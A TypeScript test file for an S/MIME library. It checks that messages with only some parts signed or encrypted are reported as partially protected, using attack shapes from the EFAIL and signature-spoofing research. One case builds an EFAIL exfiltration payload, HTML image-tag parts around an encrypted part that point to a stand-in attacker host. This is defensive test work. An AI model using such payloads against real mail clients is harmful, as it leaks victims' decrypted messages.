/**
 * Partly protected messages: openMessage on a message whose protection covers only some of its parts returns the
 * tree of parts with their protection and `coverage: 'partial'` instead of throwing, and the top-level signers,
 * encrypted and authenticated say nothing for the whole message. The shapes of the EFAIL and signature-spoofing
 * papers: a plain part before an encrypted one, an encrypted part inside an attacker's multipart/mixed, a signed
 * part wrapped in an attacker's message, text before and after a signed part.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { CertificateStore, MIMEInvalid, MIMELimitExceeded, encryptMessage, openMessage, signMessage } from '../../src/index.js';
import { storeWith } from '../_helpers/identities.js';

const te = new TextEncoder();
const td = new TextDecoder();
const b = (s: string) => te.encode(s);
const t = (u: Uint8Array) => td.decode(u);

const MSG = 'From: alice@example.com\r\nTo: alice@example.com\r\nSubject: real\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nSigned text.\r\n';
let alice: CertificateStore;
let signed = '';
let encrypted = '';
beforeAll(async () => {
  alice = await storeWith(['alice-sign', 'alice-enc-2025']);
  signed = t(await signMessage(MSG, { store: alice, from: 'alice@example.com' }));
  encrypted = t(await encryptMessage(MSG.replace('Signed text.', 'Secret text.'), { store: alice, to: ['alice@example.com'], cipher: 'aes-256-cbc' }));
});

/** The part's own entity (the message minus the message header fields, which a part of a multipart doesn't carry). */
const asPart = (m: string) => m.replace(/^(From|To|Subject): .*\r\n/gm, '');
const mixed = (from: string, parts: string[]) =>
  b(`From: ${from}\r\nTo: alice@example.com\r\nSubject: look\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="XX"\r\n\r\n` + parts.map((p) => `--XX\r\n${p}\r\n`).join('') + '--XX--\r\n');

describe('openMessage: partly protected messages', () => {
  it('text before and after a signed part: partial, the signed part valid, nothing said for the whole', async () => {
    const m = mixed('alice@example.com', ['Content-Type: text/plain\r\n\r\nI approve the following:', asPart(signed), 'Content-Type: text/plain\r\n\r\n(and wire the money)']);
    const r = await openMessage(m, { store: alice });
    expect(r.coverage).toBe('partial');
    expect(r.signers).toEqual([]);
    expect(r.layers).toEqual([]);
    expect(r.encrypted).toBe(false);
    expect(r.authenticated).toBe(false);
    expect(r.content).toEqual(m);
    expect(r.parts?.map((p) => [p.path, p.type, p.protection])).toEqual([
      ['1', 'text/plain', 'none'],
      ['2', 'multipart/signed', 'signed'],
      ['3', 'text/plain', 'none'],
    ]);
    expect(r.parts![1]!.signers!.map((s) => [s.email, s.status])).toEqual([['alice@example.com', 'valid']]);
    expect(t(r.parts![1]!.content)).toContain('Signed text.');
  });

  it('EFAIL: plain parts around an encrypted one (the direct exfiltration shape)', async () => {
    const m = mixed('mallory@example.com', ['Content-Type: text/html\r\n\r\n<img src="http://evil.example/', asPart(encrypted), 'Content-Type: text/html\r\n\r\n">']);
    const r = await openMessage(m, { store: alice });
    expect(r.coverage).toBe('partial');
    expect(r.encrypted).toBe(false);
    expect(r.parts?.map((p) => p.protection)).toEqual(['none', 'encrypted', 'none']);
    expect(t(r.parts![1]!.content)).toContain('Secret text.');
    expect(r.parts![1]!.signers).toEqual([]);
    expect(r.parts![1]!.authenticated).toBe(false); // CBC, no signature inside: malleable
  });

  it('EFAIL: an encrypted part alone inside an attacker\'s multipart/mixed is still partial', async () => {
    const r = await openMessage(mixed('mallory@example.com', [asPart(encrypted)]), { store: alice });
    expect(r.coverage).toBe('partial');
    expect(r.parts?.map((p) => p.protection)).toEqual(['encrypted']);
  });

  it("a signed part in the attacker's message is bound to the attacker's From", async () => {
    const r = await openMessage(mixed('mallory@example.com', [asPart(signed)]), { store: alice });
    expect(r.parts![0]!.signers!.map((s) => s.status)).toEqual(['address-mismatch']);
  });

  it("a signed message wrapped (forwarded) in an attacker's message: the forwarded From binds it", async () => {
    const m = mixed('mallory@example.com', ['Content-Type: text/plain\r\n\r\nAlice wrote this, see:', `Content-Type: message/rfc822\r\n\r\n${signed}`]);
    const r = await openMessage(m, { store: alice });
    expect(r.coverage).toBe('partial');
    expect(r.signers).toEqual([]);
    const fwd = r.parts![1]!;
    expect([fwd.type, fwd.protection]).toEqual(['message/rfc822', 'none']);
    expect(fwd.parts?.map((p) => [p.path, p.type, p.protection])).toEqual([['2.1', 'multipart/signed', 'signed']]);
    expect(fwd.parts![0]!.signers!.map((s) => [s.email, s.status])).toEqual([['alice@example.com', 'valid']]);
  });

  it('a signed and encrypted part: signed+encrypted', async () => {
    const both = t(await encryptMessage(signed, { store: alice, to: ['alice@example.com'] }));
    const r = await openMessage(mixed('alice@example.com', ['Content-Type: text/plain\r\n\r\nhi', asPart(both)]), { store: alice });
    expect(r.parts?.map((p) => p.protection)).toEqual(['none', 'signed+encrypted']);
    expect(r.parts![1]!.signers![0]!.status).toBe('valid');
    expect(r.parts![1]!.authenticated).toBe(true);
  });

  it('a part that cannot be opened (no key): reported in the part, the rest still shown', async () => {
    const stranger = await storeWith(['bob']);
    const r = await openMessage(mixed('alice@example.com', ['Content-Type: text/plain\r\n\r\nhi', asPart(encrypted)]), { store: stranger });
    expect(r.parts![1]!.error?.code).toBe('ERR_CMS_DECRYPTION_FAILED');
    expect(r.parts![1]!.protection).toBe('none');
  });

  it('coverage none when no part is protected (the tree still given); the parts limit holds', async () => {
    const none = await openMessage(mixed('a@example.com', ['Content-Type: text/plain\r\n\r\nx', 'Content-Type: text/plain\r\n\r\ny']), { store: alice });
    expect(none.coverage).toBe('none');
    expect(none.parts?.map((p) => [p.path, p.protection])).toEqual([['1', 'none'], ['2', 'none']]);
    expect([none.signers, none.encrypted, none.authenticated]).toEqual([[], false, false]);
    await expect(openMessage('not a header\r\n\r\nx', { store: alice })).rejects.toBeInstanceOf(MIMEInvalid);
    const many = mixed('a@example.com', Array.from({ length: 5 }, () => 'Content-Type: text/plain\r\n\r\nx'));
    await expect(openMessage(many, { store: alice, limits: { maxParts: 3 } })).rejects.toBeInstanceOf(MIMELimitExceeded);
  });

  it('a message that is S/MIME itself: coverage full, no parts', async () => {
    const r = await openMessage(signed, { store: alice });
    expect(r.coverage).toBe('full');
    expect(r.parts).toBeUndefined();
  });
});

describe('partly protected messages: hostile shapes end in a result or a SmimeError', () => {
  it('a malformed plain part beside a signed one is reported in that part; the signed part still opens', async () => {
    const m = mixed('alice@example.com', ['this line is not a header\r\nContent-Type: text/plain\r\n\r\nx', asPart(signed)]);
    const r = await openMessage(m, { store: alice });
    expect(r.parts![0]!.error?.code).toBe('ERR_MIME_INVALID');
    expect(r.parts![1]!.signers![0]!.status).toBe('valid');
  });

  it('parts nested deeper than maxMimeDepth: MIMELimitExceeded, not a silent cut', async () => {
    let inner = asPart(signed);
    for (let i = 0; i < 6; i++) inner = `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n--n${i}\r\n${inner}\r\n--n${i}--\r\n`;
    const m = mixed('alice@example.com', [inner]);
    await expect(openMessage(m, { store: alice, limits: { maxMimeDepth: 4 } })).rejects.toBeInstanceOf(MIMELimitExceeded);
    const r = await openMessage(m, { store: alice });
    let p = r.parts![0]!;
    while (p.parts) p = p.parts[0]!;
    expect([p.path, p.protection]).toEqual(['1.1.1.1.1.1.1', 'signed']);
  });
});
